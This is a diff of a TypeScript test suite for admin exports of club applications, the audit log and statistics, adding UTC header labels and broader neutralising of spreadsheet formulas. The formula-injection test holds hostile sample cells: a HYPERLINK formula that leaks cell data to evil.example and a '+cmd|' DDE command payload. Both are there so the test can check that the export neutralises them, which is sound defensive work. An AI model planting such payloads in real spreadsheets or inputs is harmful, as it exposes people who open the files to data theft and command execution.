@@ -63,6 +63,12 @@ const APPLICATION_HEADERS = [
   'history',
 ];
 const AUDIT_HEADERS = ['id', 'action_type', 'target_type', 'target_id', 'target_name', 'details', 'admin_id', 'admin_name', 'admin_email', 'ip_address', 'created_at'];
+/** The columns holding times say UTC in the xlsx and csv header (issue 25); json keys are the
+ *  specification's names. */
+const UTC_FIELDS = new Set(['created_at', 'reviewed_at', 'history']);
+const sheetHeaders = (fields: string[], format: Format) => (format === 'json' ? fields : fields.map((f) => (UTC_FIELDS.has(f) ? `${f} (UTC)` : f)));
+/** A sheet header's field: the name without ' (UTC)'. */
+const fieldOf = (header: string) => header.replace(/ \(UTC\)$/, '');
 const REVIEW_ACTIONS = ['approve', 'reject', 'bulk_approve', 'bulk_reject', 'verify', 'unverify'] as const;
 
 const FILE = 'file { downloadUrl filename expiresAt } userErrors { field code message }';
@@ -141,7 +147,7 @@ async function readWorkbook(body: Buffer): Promise<{ name: string; headers: stri
     const lines: unknown[][] = [];
     sheet.eachRow((row) => lines.push((row.values as unknown[]).slice(1)));
     const headers = (lines[0] ?? []) as string[];
-    const rows = lines.slice(1).map((cells) => Object.fromEntries(headers.map((h, i) => [h, cells[i] ?? null])));
+    const rows = lines.slice(1).map((cells) => Object.fromEntries(headers.map((h, i) => [fieldOf(h), cells[i] ?? null])));
     return { name: sheet.name, headers, rows };
   });
 }
@@ -149,17 +155,19 @@ async function readWorkbook(body: Buffer): Promise<{ name: string; headers: stri
 function readCsv(body: Buffer): { headers: string[]; rows: Row[] } {
   const lines = parse(body, { bom: true }) as string[][];
   const headers = lines[0]!;
-  return { headers, rows: lines.slice(1).map((cells) => Object.fromEntries(headers.map((h, i) => [h, cells[i]]))) };
+  return { headers, rows: lines.slice(1).map((cells) => Object.fromEntries(headers.map((h, i) => [fieldOf(h), cells[i]]))) };
 }
 
-/** What a CSV cell holds for a value: empty for none; a leading = + - @ neutralised with a quote. */
+/** Text that starts with = + - @ (or ＝ ＋ － ＠), a tab or a carriage return, neutralised with a
+ *  quote: the same in csv and xlsx (issue 25). */
+const neutralised = (s: string) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(s) ? `'${s}` : s);
+/** What a CSV cell holds for a value: empty for none; text neutralised. */
 const csvText = (value: unknown): string => {
   if (value == null) return '';
-  const s = value instanceof Date ? value.toISOString() : String(value);
-  return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
+  return value instanceof Date ? value.toISOString() : neutralised(String(value));
 };
-/** What an xlsx cell holds for a value read back: dates as dates, texts as texts, none as null. */
-const xlsxValue = (value: unknown): unknown => (value === '' || value === undefined ? null : value);
+/** What an xlsx cell holds for a value read back: dates as dates, texts neutralised, none as null. */
+const xlsxValue = (value: unknown): unknown => (value === '' || value === undefined ? null : typeof value === 'string' ? neutralised(value) : value);
 
 // ---------------------------------------------------------------------------------------------
 // What the database holds.
@@ -239,6 +247,8 @@ function jsonRow(a: ExpectedApplication, opts = { notes: true, history: true }):
 
 const asCsv = (row: Row): Row => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, csvText(v)]));
 const asXlsx = (row: Row): Row => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, xlsxValue(v)]));
+/** An xlsx row as read back: empty cells null, nothing else changed. */
+const readXlsx = (row: Row): Row => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, v === '' || v === undefined ? null : v]));
 
 /** The file's rows in the shape of `tableRow`/`jsonRow` for comparison. */
 async function applicationRows(body: Buffer, format: Format): Promise<{ headers: string[]; rows: Row[] }> {
@@ -249,7 +259,7 @@ async function applicationRows(body: Buffer, format: Format): Promise<{ headers:
   if (format === 'csv') return readCsv(body);
   const [sheet, ...others] = await readWorkbook(body);
   expect(others).toEqual([]);
-  return { headers: sheet!.headers, rows: sheet!.rows.map(asXlsx) };
+  return { headers: sheet!.headers, rows: sheet!.rows.map(readXlsx) };
 }
 
 function expectedRows(expected: ExpectedApplication[], format: Format, opts = { notes: true, history: true }): Row[] {
@@ -322,7 +332,7 @@ describe('exporting club applications', () => {
       });
 
       const { headers, rows } = await applicationRows(await downloadOk(file, format), format);
-      expect(headers).toEqual(APPLICATION_HEADERS);
+      expect(headers).toEqual(sheetHeaders(APPLICATION_HEADERS, format));
       const expected = await expectedApplications();
       expect(expected.map((a) => a.club.id)).toEqual([pendingApp.uuid, approvedApp.uuid, rejectedApp.uuid, verifiedApp.uuid, lateApp.uuid]);
       expect(rows).toEqual(expectedRows(expected, format));
@@ -366,7 +376,7 @@ describe('exporting club applications', () => {
         includeAdminNotes: false,
       });
       const { headers, rows } = await applicationRows(await downloadOk(file, format), format);
-      expect(headers).toEqual(APPLICATION_HEADERS.filter((h) => h !== 'admin_notes' && h !== 'history'));
+      expect(headers).toEqual(sheetHeaders(APPLICATION_HEADERS.filter((h) => h !== 'admin_notes' && h !== 'history'), format));
       const expected = await expectedApplications({ from: '2026-03-06', to: '2026-04-30', status: 'approved' });
       expect(expected.map((a) => a.club.id)).toEqual([approvedApp.uuid, verifiedApp.uuid]);
       expect(rows).toEqual(expectedRows(expected, format, { notes: false, history: false }));
@@ -387,14 +397,14 @@ describe('exporting club applications', () => {
       expect(rows).toEqual([]);
     }
     const csv = await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'CSV', from: '2025-01-01', to: '2025-01-31' }), 'csv');
-    expect(csv.toString('utf8')).toBe(`\uFEFF${APPLICATION_HEADERS.join(',')}\r\n`);
+    expect(csv.toString('utf8')).toBe(`\uFEFF${sheetHeaders(APPLICATION_HEADERS, 'csv').join(',')}\r\n`);
     const json = await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'JSON', from: '2025-01-01', to: '2025-01-31' }), 'json');
     expect(JSON.parse(json.toString('utf8'))).toEqual([]);
   });
 });
 
 describe('formula injection', () => {
-  it('csv neutralises cells that start with = + - @ with a quote; xlsx keeps them as text, never formulas; json as entered', async () => {
+  it('csv and xlsx neutralise cells that start with = + - @ with a quote (one rule); xlsx writes them as text, never formulas; json as entered', async () => {
     const hostile = await newApplication(server, { name: 'Formula Club' });
     await setCreatedAt(server, hostile.uuid, new Date('2026-04-25T10:00:00.000Z'));
     const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
@@ -417,8 +427,10 @@ describe('formula injection', () => {
     const sheet = workbook.worksheets[0]!;
     const nameCell = sheet.getRow(2).getCell(2);
     expect(nameCell.type).toBe(ExcelJS.ValueType.String);
-    expect(nameCell.value).toBe(name);
-    expect(sheet.getRow(2).getCell(12).value).toBe('+cmd|" /C notepad"!A1');
+    expect(nameCell.value).toBe(`'${name}`);
+    expect(sheet.getRow(2).getCell(12).value).toBe(`'+cmd|" /C notepad"!A1`);
+    // Re-editing such a cell in Excel or LibreOffice keeps it text: the quote is a text prefix.
+    expect(sheet.getRow(2).getCell(4).value).toBe(`'-2+3`);
 
     const json = JSON.parse((await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'JSON', ...range }), 'json')).toString('utf8')) as Row[];
     expect(json[0]).toMatchObject({ name, contact_phone: '-2+3', admin_notes: '+cmd|" /C notepad"!A1' });
@@ -464,7 +476,7 @@ describe('exporting the audit log', () => {
     if (format === 'csv') return readCsv(body);
     const [sheet] = await readWorkbook(body);
     expect(sheet!.name).toBe('Audit log');
-    return { headers: sheet!.headers, rows: sheet!.rows.map(asXlsx) };
+    return { headers: sheet!.headers, rows: sheet!.rows.map(readXlsx) };
   }
 
   const expectedAudit = (rows: ReturnType<typeof auditRowsOf>, format: Format): Row[] =>
@@ -484,7 +496,7 @@ describe('exporting the audit log', () => {
       expect(mine).toMatchObject({ targetName: file.filename, targetId: null, targetType: 'export', details: `Exported the audit log (${format})`, adminId: admin.id });
 
       const { headers, rows } = await auditFileRows(await downloadOk(file, format), format);
-      expect(headers).toEqual(AUDIT_HEADERS);
+      expect(headers).toEqual(sheetHeaders(AUDIT_HEADERS, format));
       const all = await dbOf(server).select().from(adminActions).orderBy(asc(adminActions.createdAt), asc(adminActions.id));
       expect(all.length).toBeGreaterThan(5);
       expect(rows).toEqual(expectedAudit(auditRowsOf(all), format));
@@ -554,8 +566,8 @@ describe('exporting the statistics', () => {
     const report = await statistics(admin.client, period);
     const hours = Math.round(report.averageProcessingTimeHours! * 100) / 100;
     const summary: [string, string | number][] = [
-      ['From', '2026-03-01'],
-      ['To', '2026-04-30'],
+      ['From (UTC)', '2026-03-01'],
+      ['To (UTC)', '2026-04-30'],
       ['Total applications', 4],
       ['Approved applications', 2],
       ['Pending applications', 1],
@@ -571,7 +583,7 @@ describe('exporting the statistics', () => {
     const sections = [
       { name: 'Summary', headers: ['Metric', 'Value'], rows: summary },
       { name: 'Top rejection reasons', headers: ['Reason', 'Count'], rows: report.topRejectionReasons.map((r) => [r.reason, r.count]) },
-      { name: 'Applications by month', headers: ['Month', 'Total', 'Approved', 'Pending', 'Rejected'], rows: report.applicationsByMonth.map((m) => [m.month, m.total, m.approved, m.pending, m.rejected]) },
+      { name: 'Applications by month', headers: ['Month (UTC)', 'Total', 'Approved', 'Pending', 'Rejected'], rows: report.applicationsByMonth.map((m) => [m.month, m.total, m.approved, m.pending, m.rejected]) },
       { name: 'Applications by location', headers: ['Location', 'Count'], rows: report.applicationsByLocation.map((l) => [l.location, l.count]) },
     ];
     expect(report.applicationsByLocation).toEqual([
@@ -731,7 +743,7 @@ describe('many applications', () => {
     const [sheet] = await readWorkbook(await downloadOk(await exportOk(admin.client, 'exportClubApplications', { format: 'XLSX', status: 'APPROVED', ...range }), 'xlsx'));
     const approved = expected.filter((a) => a.club.applicationStatus === 'approved');
     expect(approved).toHaveLength(833);
-    expect(sheet!.rows.map(asXlsx)).toEqual(expectedRows(approved, 'xlsx'));
+    expect(sheet!.rows.map(readXlsx)).toEqual(expectedRows(approved, 'xlsx'));
   });
 });
 
